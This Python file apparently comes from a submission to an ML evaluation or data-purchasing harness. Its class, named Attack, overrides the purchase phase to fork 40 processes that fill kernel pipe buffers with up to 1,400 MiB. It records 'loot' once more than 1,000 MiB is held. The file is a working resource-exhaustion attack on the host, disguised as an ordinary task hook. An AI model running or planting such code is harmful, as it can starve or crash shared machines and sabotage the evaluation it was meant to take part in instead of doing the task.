"""Fills pipes without end in many processes, up to 1,400 MiB."""

import os
import time

from aim import MIB, children_do, loot, most_files

from run import ZEWDPCBaseRun

CHILDREN, EACH = 40, 35 * MIB


def fill(number):
    held, full = 0, 0
    most = most_files()
    data = bytes(1 << 16)
    while full < EACH and held < most - 200:
        _, write = os.pipe()
        held += 2
        os.set_blocking(write, False)
        try:
            while True:
                full += os.write(write, data)
        except BlockingIOError:
            continue
    with open(f"{os.environ['HOME']}/full", "a") as file:
        file.write(f"{full}\n")


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        children_do(fill, CHILDREN)
        time.sleep(9)
        with open(f"{os.environ['HOME']}/full") as file:
            full = sum(map(int, file))
        print("held", full // MIB, flush=True)
        if full > 1000 * MIB:
            loot(f"{full // MIB} MiB in pipes")
